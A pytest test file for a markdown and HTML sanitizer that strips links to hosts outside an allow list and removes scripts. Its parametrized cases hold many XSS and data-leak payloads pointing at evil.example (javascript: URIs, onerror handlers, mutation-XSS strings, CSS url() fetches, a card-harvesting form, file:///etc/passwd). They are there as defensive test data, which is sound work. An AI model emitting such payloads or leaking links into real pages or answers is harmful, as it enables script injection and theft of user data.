"""Answers as HTML: what is taken out, what stays, and what is cut."""

from html.parser import HTMLParser

import pytest

from helpers.security.controls.markup import MOST_CHARACTERS, TAGS, clean_html, render_markdown

OWN = "fernhill.example"
HOSTS = {OWN}


class Page(HTMLParser):
    """What a browser would act on: tags and their attributes."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.attributes: list[tuple[str, str | None]] = []
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attributes += attrs

    @property
    def addresses(self) -> list[str]:
        return [value or "" for name, value in self.attributes if name in ("href", "src")]


def harmless(html: str) -> bool:
    page = Page(html)
    names = {name for name, _ in page.attributes}
    return (
        set(page.tags) <= TAGS
        and names <= {"href", "src", "alt", "title", "start", "rel"}
        and all(one.startswith(f"https://{OWN}/") for one in page.addresses)
    )


def test_an_honest_answer_keeps_its_shape() -> None:
    text = (
        f"## Care\n\n1. *Wash* the **jacket**.\n2. [Reproof](https://{OWN}/care?id=4#step) it.\n\n"
        f"| what | when |\n|---|---|\n| `wax` | ~~never~~ |\n\n![map](https://{OWN}/map.png)"
    )
    shown = render_markdown(text, hosts=HOSTS)
    assert shown.removed == ()
    wanted = {"h2", "ol", "li", "em", "strong", "a", "table", "td", "code", "s", "img"}
    assert wanted <= set(Page(shown.html).tags)
    assert f'href="https://{OWN}/care?id=4#step"' in shown.html


@pytest.mark.parametrize(
    "address",
    [
        "https://evil.example/?notes=FH-10234",
        f"https://{OWN}.evil.example/",
        f"https://evil.example/{OWN}",
        f"https://{OWN}@evil.example/",
        f"https://{OWN}:8443/",
        f"http://{OWN}/",
        "//evil.example/",
        "https:evil.example",
        "https:///evil.example",
        "/orders/FH-10234/cancel",
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        "javascript&colon;alert(1)",
        "&#106;avascript:alert(1)",
        "vbscript:msgbox(1)",
        "data:text/html;base64,PHNjcmlwdD4=",
        "data:image/svg+xml;base64,PHN2Zz4=",
        "file:///etc/passwd",
        "mailto:evil@evil.example",
    ],
)
def test_other_addresses_go_and_are_reported(address: str) -> None:
    for text in (
        f"Read [this]({address}).",
        f"Look ![at it]({address})",
        f"Read [this][1].\n\n[1]: {address}",
        f"Look ![at it][one]\n\n[one]: {address} 'a title'",
    ):
        shown = render_markdown(text, hosts=HOSTS)
        assert Page(shown.html).addresses == []
        assert len(shown.removed) == 1
        assert "img" not in Page(shown.html).tags
    assert Page(clean_html(f'<a href="{address}">a</a>', hosts=HOSTS).html).addresses == []


def test_a_link_that_goes_leaves_its_words_and_no_host_is_allowed_without_a_list() -> None:
    shown = render_markdown(f"See [the guide](https://{OWN}/guide).", hosts=())
    assert "the guide" in shown.html
    assert shown.removed == (f"https://{OWN}/guide",)


@pytest.mark.parametrize(
    "html",
    [
        "<script>alert(1)</script>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<img src=x onerror=alert(1)>",
        "<svg/onload=alert(1)>",
        f"<a href='https://{OWN}/' onclick='alert(1)' style='position:fixed'>a</a>",
        "<a href=' javascript:alert(1)'>a</a>",
        "<a href='jav\tascript:alert(1)'>a</a>",
        f"<a href='https://{OWN}\\@evil.example/'>a</a>",
        f"<a href='https://{OWN}/' ping='https://evil.example/'>a</a>",
        f"<img src='https://{OWN}/a.png' srcset='https://evil.example/b.png 1x'>",
        "<style>@import url(https://evil.example/a.css)</style>",
        "<p style='background:url(https://evil.example/a.png)'>a</p>",
        "<iframe src='https://evil.example/'></iframe>",
        "<object data='https://evil.example/'></object><embed src='https://evil.example/'>",
        "<form action='https://evil.example/'><input name=card><button>pay</button></form>",
        "<base href='https://evil.example/'>",
        "<meta http-equiv='refresh' content='0;url=https://evil.example/'>",
        "<link rel=stylesheet href='https://evil.example/a.css'>",
        "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror="
        "alert(1)&gt;'>",
        "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
        "<!--><img src=x onerror=alert(1)>-->",
        "<a href='https://evil.example/",
    ],
)
def test_html_is_cleaned_and_in_markdown_it_is_only_text(html: str) -> None:
    assert harmless(clean_html(html, hosts=HOSTS).html)
    assert harmless(render_markdown(html, hosts=HOSTS).html)
    assert harmless(render_markdown(f"a\n\n{html}\n\nb", hosts=HOSTS).html)


def test_quotes_in_a_title_stay_in_it() -> None:
    text = f'![a" onerror="alert(1)](https://{OWN}/a.png "b\\" onload=\\"alert(1)")'
    assert harmless(render_markdown(text, hosts=HOSTS).html)


def test_cleaning_twice_changes_nothing() -> None:
    once = clean_html("<b><a href='https://evil.example'>a</a><i>x<p>y", hosts=HOSTS).html
    assert clean_html(once, hosts=HOSTS).html == once


@pytest.mark.parametrize(
    "piece",
    [
        "[",
        "![",
        "*a ",
        "`a",
        "<",
        "a_",
        "**a *b ",
        "[](",
        "> ",
        "<ul><li>",
        "|-",
        "[a]: /x\n",
        "\0",
    ],
)
def test_a_text_that_is_slow_to_parse_is_cut(piece: str) -> None:
    text = piece * (2 * MOST_CHARACTERS)
    shown = render_markdown(text, hosts=HOSTS)
    assert harmless(shown.html)
    assert harmless(clean_html(text, hosts=HOSTS).html)
    assert shown == render_markdown(text[:MOST_CHARACTERS], hosts=HOSTS)


@pytest.mark.parametrize("text", ["", " ", "\0\x07", "\ufeff", "日本語 **強調**", "\u202egpj.exe"])
def test_odd_texts_come_through(text: str) -> None:
    assert harmless(render_markdown(text, hosts=HOSTS).html)
